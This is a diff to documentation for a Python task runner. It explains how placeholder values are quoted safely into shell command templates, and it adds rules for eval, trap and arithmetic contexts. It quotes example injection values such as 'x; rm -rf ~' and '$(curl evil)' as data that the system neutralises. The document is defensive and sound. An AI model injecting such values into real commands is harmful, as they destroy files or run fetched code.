@@ -10,11 +10,17 @@ configuration plus the outputs of upstream stages), and always safely:
   places where quoting cannot be trusted (command substitutions, comments, here-documents,
   right after ``$`` or a backslash) are refused with a :class:`TaskConfigError`;
 * in a string with ``shell: false``, the template is split into words first and each
-  placeholder fills in within its word.
+  placeholder fills in within its word;
+* where the shell reads a quoted word again (``eval``, ``trap``, ``source``, a shell's
+  ``-c`` script, the command name) the placeholder is refused, and where bash or zsh would
+  evaluate it as arithmetic or a variable name (``(( ))``, ``[[ ]]``, ``let``,
+  ``declare -i``, subscripts, ``read``, ...) its value must be a plain number or name.
 
-(The filling and quoting live in :mod:`stabilize.tasks._placeholders`.)
+(The filling and quoting live in :mod:`stabilize.tasks._placeholders`, the reading of the
+template in :mod:`stabilize.tasks._shell_lexer`.)
 
-So a value such as ``x; rm -rf ~`` or ``$(curl evil)`` is only ever data, never a command.
+So a value such as ``x; rm -rf ~``, ``$(curl evil)`` or ``a[$(curl evil)]`` is only ever
+data, never a command.
 
 The process runs in a new session (its own process group). A timeout or a cancellation
 sends SIGTERM to the whole group, then SIGKILL after a grace period; whatever the command
